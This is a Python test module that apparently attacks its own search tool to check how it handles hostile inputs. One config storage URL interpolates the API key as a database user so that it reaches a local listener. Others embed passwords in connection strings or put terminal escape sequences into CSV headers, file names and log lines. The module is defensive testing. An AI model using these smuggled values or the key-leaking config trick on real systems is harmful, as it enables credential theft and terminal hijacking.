"""Attacks by what a run reads: a config, a file's name, a column's name, a key."""

import contextlib
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

from benchmarks.attacks.victim import set_secrets
from search.config.load import load_config
from search.storage.run_directory import new_run
from search.studies.storage import open_journal
from tests.small_runs.settings import REPO

Attack = Callable[[Path], str]  # given a folder of its own; what got through, "" where nothing did
DEV = str(REPO / "configs" / "dev.yaml")
HOSTILE = "\x1b]0;owned\x07\x1b[2J"


def said(*words: str, **environment: str) -> str:
    """What a command writes to the terminal."""
    told = subprocess.run(
        [sys.executable, "-m", "search", *words],
        cwd=REPO,
        env=os.environ | environment,
        capture_output=True,
        timeout=300,
        check=False,
    )
    return (told.stdout + told.stderr).decode("utf-8", "surrogateescape")


def _obeyed(text: str) -> str:
    return "an escape sequence on the terminal" if "\x1b]0;owned" in text else ""


def key_sent_away(place: Path) -> str:
    """A config names the API key as the user of a database elsewhere."""
    with set_secrets() as secrets, _listener() as (port, received):
        url = f"postgresql+psycopg://${{ANTHROPIC_API_KEY}}@127.0.0.1:{port}/db?sslmode=disable"
        with contextlib.suppress(ValueError):
            open_journal(place / "optuna.log", url)
        sent = secrets["ANTHROPIC_API_KEY"].encode() in b"".join(received)
    return "the API key reached the server" if sent else ""


@contextlib.contextmanager
def _listener() -> Iterator[tuple[int, list[bytes]]]:
    """A server on loopback that keeps what it receives and answers nothing."""
    received: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(10)

        def take() -> None:
            with contextlib.suppress(OSError):
                connection, _ = server.accept()
                with connection:
                    connection.settimeout(2)
                    received.append(connection.recv(4096))

        thread = threading.Thread(target=take)
        thread.start()
        yield server.getsockname()[1], received
        with contextlib.suppress(OSError), socket.create_connection(server.getsockname(), 1):
            pass  # ends the wait where nobody came
        thread.join()


def kept_in_config(setting: str) -> Attack:
    """A secret that somebody wrote into the config: into config.yaml, or into the error."""

    def attack(place: Path) -> str:
        try:
            run = new_run(place / "run", load_config(Path(DEV), ["agent.kind=claude", setting]))
        except ValueError as error:
            return "repeated in the error" if "hunter2" in str(error) else ""
        return "in config.yaml" if "hunter2" in run.config.read_text() else ""

    return attack


def column(place: Path) -> str:
    """A CSV file whose header holds escape sequences."""
    data = place / "data.csv"
    data.write_text(f'"{HOSTILE}",label\n' + "".join(f"text {i},{i % 2}\n" for i in range(40)))
    splits = "{weak_train: 10, transfer: 10, search: 10, test: 10}"
    task = f"task={{kind: dataset, path: {data}, splits: {splits}}}"
    return _obeyed(said("baselines", DEV, "--set", task, "--set", f"cache={place / 'cache'}"))


def file_name(place: Path) -> str:
    """A config, and a run directory, whose name holds escape sequences."""
    return _obeyed(said("run", f"{HOSTILE}.yaml") + said("status", f"runs/{HOSTILE}"))


def log_line(place: Path) -> str:
    """A warning that quotes a file's name: one that cannot be read to its end."""
    folder = place / f"run-{HOSTILE}"
    run = new_run(folder, load_config(Path(DEV)))
    run.ledger.write_bytes(b'{"at":17')
    return _obeyed(said("status", str(folder)))


def key_of_several_lines(place: Path) -> str:
    """A key with a second line, such as a comment below it."""
    text = said("propose", DEV, "--set", "agent.kind=claude", ANTHROPIC_API_KEY="sk-hunter2\n# mine")
    problems = []
    if "hunter2" in text:
        problems.append("the key is repeated")
    if len(text.strip().splitlines()) != 1 or "Traceback" in text:
        problems.append("no single line")
    return ", ".join(problems)


BY_TEXT: dict[str, Attack] = {
    "optuna.storage sends the API key to a server": key_sent_away,
    "a password in optuna.storage": kept_in_config("optuna.storage=postgresql://me:hunter2@host/db"),
    "a password with a slash": kept_in_config("optuna.storage=postgresql://me:a/hunter2@host/db"),
    "a password in ?sslpassword=": kept_in_config("optuna.storage=postgresql://h/db?sslpassword=hunter2"),
    "a password in a connection string": kept_in_config(
        "optuna.storage=mssql://?odbc_connect=DRIVER%3DX%3BPWD%3Dhunter2"
    ),
    "a key in place of agent.key_file": kept_in_config("agent.key_file=sk-ant-hunter2"),
    "escape sequences in a CSV header": column,
    "escape sequences in a file's name": file_name,
    "escape sequences in a log line": log_line,
    "a key of several lines": key_of_several_lines,
}
